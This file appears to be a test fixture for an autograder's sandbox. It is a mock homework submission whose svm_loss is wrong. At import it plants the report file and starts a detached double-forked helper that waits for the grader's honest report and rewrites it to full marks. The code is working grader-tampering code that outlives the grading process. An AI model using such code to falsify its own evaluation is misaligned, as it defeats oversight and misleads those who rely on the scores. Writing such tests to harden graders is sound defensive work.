# Attacks: the -o report, graded with --no-sandbox into a world-writable folder ({OUT}). At
# import the submission creates that file itself (so it owns it), then double-forks and
# setsids a helper that closes every descriptor and waits, up to 20 s, for the grader to write
# its honest report into the file, and then rewrites it with every function at full marks.
# svm_loss returns wrong values, so the honest total is 45 of 55.
# Must happen: the report at {OUT} says 45 after grading is over, that is, no process of the
# submission outlives the grading run. Control: loaded in the test's own process with {OUT}
# already there (so nothing is planted), _rewrite_when_written turns the honest report at
# {OUT} into a full-marks one.
import json as _json
import os as _os
import time as _time

import numpy as _np

_OUT = "{OUT}"


def _rewrite_when_written():
    end = _time.time() + 20
    while _time.time() < end:
        _time.sleep(0.05)
        try:
            with open(_OUT) as f:
                report = _json.load(f)
        except Exception:
            continue
        if report.get("score") == report.get("max_score"):
            continue
        report["score"] = report["max_score"]
        for fn in report["functions"]:
            fn["score"], fn["status"], fn["feedback"] = fn["max_score"], "pass", "all cases pass"
        with open(_OUT, "w") as f:
            _json.dump(report, f)
        return


def _plant():
    try:
        _os.close(_os.open(_OUT, _os.O_WRONLY | _os.O_CREAT | _os.O_EXCL, 0o666))
    except OSError:
        return
    pid = _os.fork()
    if pid == 0:
        try:
            _os.setsid()
            if _os.fork() == 0:
                _os.closerange(0, 1024)
                _rewrite_when_written()
        finally:
            _os._exit(0)
    _os.waitpid(pid, 0)


_plant()


def svm_loss(x, y):
    return 0.0, _np.zeros(x.shape)
